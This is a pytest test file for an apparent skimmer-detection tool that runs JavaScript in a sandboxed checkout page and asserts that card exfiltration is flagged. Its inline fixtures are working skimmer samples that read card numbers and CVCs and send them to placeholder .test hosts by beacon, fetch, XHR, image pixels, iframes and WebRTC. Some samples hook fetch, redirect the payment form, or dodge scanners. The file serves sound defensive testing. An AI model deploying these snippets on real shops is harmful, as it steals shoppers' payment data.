"""Detonation in a real browser: files run on the synthetic checkout with the canary shopper.

Each gate a skimmer hides behind — the URL, a long delay, a once-per-visitor cookie, elements
of another platform's checkout, an automation check — has a fixture it must be caught through;
hard negatives stay clean; the pages themselves produce nothing.
"""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
import pytest_asyncio

from skimscan.detonate import Detonation, DetonationOptions, Detonator
from skimscan.models import Confidence, Severity, Verdict
from skimscan.pipeline import Engine, EngineOptions

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="module")]
FIXTURES = Path(__file__).resolve().parents[2] / "fixtures" / "detonate"


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def detonator() -> AsyncIterator[Detonator]:
    engine = Engine(EngineOptions(use_disk_cache=False, jobs=1))
    # A file's time budget (90 s by default, for five pages) is raised: one test runs all
    # ten templates in one file, and a busy machine must not make that a test of the budget
    # (a hanging page is cut by its own page timeout, as the hang test checks).
    async with Detonator(engine, DetonationOptions(max_pages=2, file_timeout=300)) as running:
        yield running


def fixture(name: str) -> str:
    return next(FIXTURES.glob(f"*/{name}*.js")).read_text()


def exfiltration(result):  # type: ignore[no-untyped-def]
    return [f for f in result.findings if f.rule == "canary-exfiltration"]


@pytest.mark.parametrize("name", ["01_url_gate", "02_delay_90s", "03_delay_10min",
                                  "04_once_per_visitor_cookie", "06_webdriver_check"])
async def test_gated_skimmers_are_caught(detonator: Detonator, name: str) -> None:
    result = await detonator.detonate(f"{name}.js", fixture(name))
    assert result.verdict is Verdict.MALICIOUS, result
    (found, *_) = exfiltration(result)
    assert found.script == "s1" and found.severity is Severity.CRITICAL
    assert "detonation" in found.tags and found.evidence["quarantined"] is True
    page = next(p for p in result.pages if p.template == found.evidence["detonation"]["template"])
    assert any(g.startswith("clock: advanced by 15 min") for g in page.gates), page.gates
    assert any(g.startswith("URL: ") for g in page.gates)


async def test_the_url_gate_is_real(detonator: Detonator) -> None:
    """On a page whose URL the kit does not look for, it does nothing: template URLs matter."""
    result = await detonator.detonate("01.js", fixture("01_url_gate"), templates=["prestashop"])
    assert result.verdict is not Verdict.MALICIOUS
    assert [p.template for p in result.pages] == ["prestashop"]


async def test_the_clock_is_advanced_past_long_delays(detonator: Detonator) -> None:
    code = ("setTimeout(function () { document.addEventListener('change', function (e) {"
            " new Image().src = 'https://late-drop.test/p?d=' + btoa(e.target.value); }, true);"
            " }, 600000);")
    result = await detonator.detonate("late.js", code, templates=["custom-autocomplete"])
    assert result.verdict is Verdict.MALICIOUS
    assert any("advanced the page clock" in line for line in result.pages[0].interaction)


async def test_missing_elements_are_created_and_the_finding_says_so(
        detonator: Detonator) -> None:
    """A kit for one payment extension reads its exact field ids at the pay click; no template
    has them, so the sandbox creates them — and caps what it proves."""
    code = """document.addEventListener('click', function () {
      var n = document.getElementById('sagepaydirectpro_cc_number'),
          c = document.getElementById('sagepaydirectpro_cc_cid');
      if (!n || !n.value) return;
      navigator.sendBeacon('https://sage-cdn-stats.test/b', JSON.stringify({n: n.value,
        c: c && c.value}));
    }, true);"""
    result = await detonator.detonate("sage.js", code, templates=["custom-autocomplete"])
    (found,) = exfiltration(result)
    assert (found.severity, found.confidence) == (Severity.HIGH, Confidence.MEDIUM)
    assert "#sagepaydirectpro_cc_number (pan)" in found.evidence["synthesised"]
    assert result.pages[0].synthesised and result.verdict is Verdict.MALICIOUS


async def test_hard_negatives_stay_clean(detonator: Detonator) -> None:
    for name in ("b01_processor_sdk", "b02_card_brand_icon", "b07_autofill_formatter"):
        result = await detonator.detonate(f"{name}.js", fixture(name))
        assert result.verdict is Verdict.CLEAN, (name, result.findings)


async def test_the_templates_themselves_are_clean(detonator: Detonator) -> None:
    names = [t.name for t in detonator.checkout.templates]
    # two at a time, each in its own context, as `scan-file --concurrency 2` runs files
    limit = asyncio.Semaphore(2)

    async def one(name: str) -> Detonation:
        async with limit:
            return await detonator.detonate("empty.js", "/* nothing */", templates=[name])

    results = await asyncio.gather(*(one(name) for name in names))
    pages = [p for r in results for p in r.pages]
    assert all(r.findings == () and r.verdict is Verdict.CLEAN for r in results)
    assert sorted(p.template for p in pages) == sorted(names)
    assert all(p.verdict is Verdict.CLEAN and p.error is None for p in pages), \
        [(p.template, p.error) for p in pages]


async def test_a_file_that_hangs_its_page_is_an_error_not_clean() -> None:
    # a short page timeout: what is tested is the verdict, not how long a hang is waited for
    engine = Engine(EngineOptions(use_disk_cache=False, jobs=1))
    options = DetonationOptions(max_pages=1, page_timeout=5, file_timeout=60)
    async with Detonator(engine, options) as short:
        result = await short.detonate("busy.js", "while (true) {}",
                                      templates=["custom-autocomplete"])
    assert result.verdict is Verdict.ERROR and result.error


async def test_an_html_fragment_runs_inside_a_checkout(detonator: Detonator) -> None:
    """A compromised template part (no form of its own) is put into a checkout page; its
    inline code is the file's."""
    fragment = """<div class="footer">&copy; shop</div><script>
      document.addEventListener('submit', function () {
        var v = [].map.call(document.querySelectorAll('input'), function (i) {
          return i.name + '=' + i.value; }).join('&');
        fetch('https://footer-cdn.test/f', {method: 'POST', mode: 'no-cors', body: btoa(v)});
      }, true);</script>"""
    result = await detonator.detonate("footer.html", fragment, html=True,
                                      templates=["woocommerce"])
    (found,) = exfiltration(result)
    assert found.script == "s1" and result.verdict is Verdict.MALICIOUS


@pytest.mark.parametrize(("template", "code"), [
    # Magento 1's Prototype, as old kits for it call it: no checks that the API exists
    ("magento1-onepage", """document.observe('dom:loaded', function () {
      Event.observe($('co-payment-form'), 'change', function () {
        if (!$F('authorizenet_cc_cid')) return;
        new Ajax.Request('https://mage-metrics.test/collect', {method: 'post',
          parameters: {d: btoa(Form.serialize($('co-payment-form')))}});
      });
    });"""),
    # jQuery 1.x: .live(), .size(), $.browser (gone from jQuery 3)
    ("custom-autocomplete", """if (!$.browser.msie && $('#card').size() > 0) {
      $('#code').live('change', function () {
        $.ajax({type: 'POST', url: 'https://jq-stats.test/s',
                data: {v: btoa($('#card').val() + '|' + $('#code').val())}});
      });
    }"""),
])
async def test_old_kits_find_the_old_apis_they_assume(detonator: Detonator, template: str,
                                                      code: str) -> None:
    result = await detonator.detonate("old.js", code, templates=[template])
    assert result.verdict is Verdict.MALICIOUS, [(p.error, p.interaction) for p in result.pages]
    (found,) = exfiltration(result)
    assert found.script == "s1"  # the file, not Prototype or jQuery it called through


async def test_a_kit_hooked_on_a_checkout_step_runs_when_the_shopper_goes_through_it(
        detonator: Detonator) -> None:
    """Magento 1's one-page checkout saves the payment step with its own "Continue" button
    before the review's "Place Order"; kits listen on that step's button container. The
    shopper presses the step's button as a shopper would, so the kit's send happens."""
    code = """(function attach() {
      var box = document.getElementById('payment-buttons-container');
      if (!box) { return setTimeout(attach, 500); }
      box.addEventListener('click', function () {
        var n = document.getElementsByName('payment[cc_number]')[0];
        if (!n || !n.value) { return; }
        var x = new XMLHttpRequest();
        x.open('POST', 'https://step-metrics.test/save', true);
        x.send('n=' + encodeURIComponent(n.value));
      });
    })();"""
    result = await detonator.detonate("step.js", code, templates=["magento1-onepage"])
    assert result.verdict is Verdict.MALICIOUS, [(p.error, p.interaction) for p in result.pages]
    (found,) = exfiltration(result)
    assert found.script == "s1"


async def test_a_created_pay_button_gets_the_press_that_lands_inside_the_real_one(
        detonator: Detonator) -> None:
    """Magento's pay button holds a `<span>`: the shopper's press lands there, and is passed
    to the button the sandbox created for a kit's own name for it (`#payButton`, camelCase:
    the words of a name written without spaces count)."""
    code = """var btn = document.getElementById('payButton');
    if (btn) btn.addEventListener('mouseup', function () {
      var n = document.getElementsByName('payment[cc_number]')[0];
      if (n && n.value) new Image().src = 'https://btn-metrics.test/p?d=' + btoa(n.value);
    });"""
    result = await detonator.detonate("btn.js", code, templates=["magento1-onepage"])
    assert result.verdict is Verdict.MALICIOUS, [(p.error, p.interaction) for p in result.pages]
    assert any("#payButton" in s for p in result.pages for s in p.synthesised)


async def test_the_pages_own_button_passes_for_a_kits_pay_button_in_a_test(
        detonator: Detonator) -> None:
    """`e.target.closest('#complete-order')`: a kit tests what a press reached against its own
    shop's name for the pay button; the page's button stands in. A field it asks for by a
    bracketed name in quotes (`input[name="credit_card[number]"]`) is created."""
    code = """document.addEventListener('click', function (e) {
      if (!e.target.closest('#complete-order, button.complete-order')) return;
      var n = document.querySelector('input[name="credit_card[number]"]');
      if (n && n.value) new Image().src = 'https://order-metrics.test/c?d=' + btoa(n.value);
    }, true);"""
    result = await detonator.detonate("press.js", code, templates=["magento1-onepage"])
    assert result.verdict is Verdict.MALICIOUS, [(p.error, p.interaction) for p in result.pages]
    made = [s for p in result.pages for s in p.synthesised]
    assert any("as #complete-order" in s and "(pay)" in s for s in made), made
    assert any("credit_card[number]" in s and "(pan)" in s for s in made), made


async def test_a_card_field_passes_for_a_kits_name_for_it_in_a_test(
        detonator: Detonator) -> None:
    """`e.target.matches('#cardNumber')` on what the shopper types into: the page's card number
    field is a card number field of any name."""
    code = """document.addEventListener('change', function (e) {
      if (!e.target.matches('#cardNumber, [data-field="card-number"]')) return;
      navigator.sendBeacon('https://field-metrics.test/f', btoa(e.target.value));
    }, true);"""
    result = await detonator.detonate("field.js", code, templates=["magento1-onepage"])
    assert result.verdict is Verdict.MALICIOUS, [(p.error, p.interaction) for p in result.pages]
    made = [s for p in result.pages for s in p.synthesised]
    assert any("as #cardNumber" in s and "(pan)" in s for s in made), made


async def test_a_card_field_passes_for_a_kits_name_in_a_list_it_tests(
        detonator: Detonator) -> None:
    """`ids.indexOf(e.target.id) !== -1`: a kit's own names for the fields, tested against what
    the shopper leaves; the page's field of the same kind passes for the list's entry. A
    name of another kind (an email field for `ccnum`) does not."""
    code = """var ids = ['ccnum', 'ccexp', 'cccvc'];
    document.addEventListener('focusout', function (e) {
      var t = e.target, at = ids.indexOf(t.id);
      if (at === 0 && t.value) navigator.sendBeacon('https://list-metrics.test/f', btoa(t.value));
      if (['ccnum'].includes(t.name) && t.value) window.__seen = true;
    }, true);"""
    result = await detonator.detonate("list.js", code, templates=["magento1-onepage"])
    assert result.verdict is Verdict.MALICIOUS, [(p.error, p.interaction) for p in result.pages]
    made = [s for p in result.pages for s in p.synthesised]
    assert any(s.endswith("as ccnum (pan)") for s in made), made
    assert not any("email" in s for s in made), made


async def test_a_compound_selector_is_made_whole_and_a_step_id_is_the_card_form(
        detonator: Detonator) -> None:
    """Newegg's kit: `#btnCreditCard.paymentBtn.creditcard` is a pay button (a name that says
    button), made with its classes so the selector finds it; `#checkout` is the name of a
    checkout step, so the page's card form answers to it."""
    code = """window.onload = function () {
      jQuery('#btnCreditCard.paymentBtn.creditcard').bind('mouseup touchend', function () {
        var data = JSON.stringify(jQuery('#checkout').serializeArray());
        setTimeout(function () {
          jQuery.ajax({type: 'POST', url: 'https://compound-stats.test/g', data: data});
        }, 250);
      });
    };"""
    result = await detonator.detonate("compound.js", code, templates=["magento1-onepage"])
    assert result.verdict is Verdict.MALICIOUS, [(p.error, p.interaction) for p in result.pages]
    (found,) = exfiltration(result)
    assert found.evidence["host"] == "compound-stats.test"
    made = [s for p in result.pages for s in p.synthesised]
    assert "#btnCreditCard (pay)" in made and "#co-payment-form (form)" in made, made


async def test_a_message_or_a_name_handed_to_a_kits_own_frame_is_read_where_it_arrives(
        detonator: Detonator) -> None:
    """A frame of another host is answered inside the browser with an empty page (it loads,
    with that origin); what the page posts into it, or leaves in its name before sending it
    there, is recorded on arrival."""
    post = """var f = document.createElement('iframe'), ready = false;
    f.src = 'https://frame-relay.test/f.html'; f.style.display = 'none';
    f.onload = function () { ready = true; };
    document.body.appendChild(f);
    document.addEventListener('change', function (e) {
      if (ready && /cc_number/.test(e.target.name || ''))
        f.contentWindow.postMessage({v: e.target.value}, 'https://frame-relay.test');
    }, true);"""
    named = """document.addEventListener('change', function (e) {
      if (!/cc_number/.test(e.target.name || '') || !e.target.value) return;
      var f = document.createElement('iframe'); f.src = 'about:blank';
      document.body.appendChild(f);
      f.contentWindow.name = btoa(e.target.value);
      f.contentWindow.location = 'https://name-relay.test/blank.html';
    }, true);"""
    for name, code, host in (("post.js", post, "frame-relay.test"),
                             ("named.js", named, "name-relay.test")):
        result = await detonator.detonate(name, code, templates=["magento1-onepage"])
        assert result.verdict is Verdict.MALICIOUS, (name, [p.interaction for p in result.pages])
        [f] = [f for f in result.findings if f.rule == "canary-to-frame"]
        assert f.evidence["destination"] == host


async def test_a_file_that_replaces_fetch_is_tried_where_orders_go_through_fetch(
        detonator: Detonator) -> None:
    """Replacing `window.fetch` is doing something even where the page orders with
    XMLHttpRequest: the next page is one whose order goes through fetch."""
    code = r"""var real = window.fetch;
    window.fetch = function (url, init) {
      var body = init && init.body;
      if (body && typeof body !== 'string') body = new URLSearchParams(body).toString();
      if (body && /\d{12,}/.test(body.replace(/\D/g, '')))
        real('https://fetch-copy.test/c', {method: 'POST', mode: 'no-cors', body: body});
      return real.apply(this, arguments);
    };"""
    result = await detonator.detonate("hook.js", code, hints="var a;")  # two pages at most
    tried = [p.template for p in result.pages]
    by = {t.name: t for t in detonator.checkout.templates}
    assert tried[0] == "magento1-onepage" and by[tried[0]].send_api == "xhr", tried
    assert len(tried) == 2 and by[tried[1]].send_api == "fetch", tried
    assert result.verdict is Verdict.MALICIOUS, [(p.template, p.verdict) for p in result.pages]


async def test_a_data_channel_is_told_it_opened_and_what_it_sends_is_recorded(
        detonator: Detonator) -> None:
    """A kit queues the card for a WebRTC data channel that never connects here (there is no
    peer): told it opened, it sends, and the message is a send to its connection's server."""
    code = """var pc = new RTCPeerConnection({
      iceServers: [{urls: 'stun:relay.peer-stats.test:3478'}]});
    var ch = pc.createDataChannel('x'), open = false, queue = [];
    ch.onopen = function () { open = true; while (queue.length) ch.send(queue.shift()); };
    pc.createOffer().then(function (o) { return pc.setLocalDescription(o); }).catch(function () {});
    document.addEventListener('change', function (e) {
      if (!/cc_number/.test(e.target.name || '') || !e.target.value) return;
      var m = btoa(e.target.value);
      if (open) ch.send(m); else queue.push(m);
    }, true);"""
    result = await detonator.detonate("rtc.js", code, templates=["magento1-onepage"])
    assert result.verdict is Verdict.MALICIOUS, [(p.error, p.interaction) for p in result.pages]
    (found,) = exfiltration(result)
    assert found.evidence["host"] == "relay.peer-stats.test"
    assert found.evidence["channel"] == "webrtc"


async def test_a_kit_for_desktop_shoppers_from_the_cart_runs(detonator: Detonator) -> None:
    """Kits skip Linux (where scanners run) and visitors who did not come from the cart: the
    shopper is on Windows everywhere it says so, and arrives from the platform's cart page. A
    form asked for by another platform's id through a list query is the card form too."""
    code = r"""jQuery(function ($) {
      var desktop = /Windows NT|Macintosh/.test(navigator.userAgent) &&
        navigator.platform === 'Win32' && !/Linux|X11/.test(navigator.userAgent);
      if (!desktop || document.referrer.indexOf(location.hostname + '/cart') === -1) return;
      $('form#checkout_form').on('submit', function () {
        var n = $(this).find('input[name="card[number]"]').val();
        $.post('https://desktop-stats.test/p', {p: btoa(n)});
      });
    });"""
    result = await detonator.detonate("desktop.js", code, templates=["shopify"])
    assert result.verdict is Verdict.MALICIOUS, [(p.error, p.interaction) for p in result.pages]
    assert any("come to from /cart" in g for p in result.pages for g in p.gates)


async def test_a_kit_that_points_the_card_form_elsewhere_is_caught_without_a_submit(
        detonator: Detonator) -> None:
    code = """var f = document.querySelector('#co-payment-form');
    if (f) f.action = 'https://form-relay.test/collect';"""
    result = await detonator.detonate("action.js", code, templates=["magento1-onepage"])
    assert result.verdict is Verdict.MALICIOUS, [(p.error, p.interaction) for p in result.pages]
    [f] = [f for f in result.findings if f.rule == "card-form-action-to-untrusted-host"]
    assert f.evidence["host"] == "form-relay.test"


@pytest.mark.parametrize("selector", ["form#pay", "form.payment-form", "form[name=checkout]"])
async def test_a_payment_form_asked_for_by_another_name_is_the_card_form(
        detonator: Detonator, selector: str) -> None:
    """A kit written for another shop names its payment form by that shop's id, class or
    name: the page's card form answers (not a stand-in button, not nothing)."""
    code = f"""document.addEventListener('DOMContentLoaded', function () {{
      var f = document.querySelector('{selector}');
      if (!f || f.tagName !== 'FORM') return;
      f.addEventListener('submit', function () {{
        var n = f.querySelector('[autocomplete="cc-number"]');
        navigator.sendBeacon('https://form-metrics.test/s', JSON.stringify({{n: n && n.value}}));
      }});
    }});"""
    result = await detonator.detonate("form.js", code, templates=["custom-autocomplete"])
    assert result.verdict is Verdict.MALICIOUS, [(p.error, p.interaction) for p in result.pages]


async def test_a_created_card_field_the_shopper_types_into_holds_the_card_once(
        detonator: Detonator) -> None:
    """Created card fields hold the canary already (kits read them at once); where the
    shopper types into one too, it replaces the value rather than doubling it."""
    code = """var n = document.getElementById('card_number');
    if (n) n.addEventListener('change', function () {
      fetch('https://once-metrics.test/c?n=' + encodeURIComponent(n.value));
    });"""
    result = await detonator.detonate("once.js", code, templates=["hosted-fields"])
    assert result.verdict is Verdict.MALICIOUS, [(p.error, p.interaction) for p in result.pages]
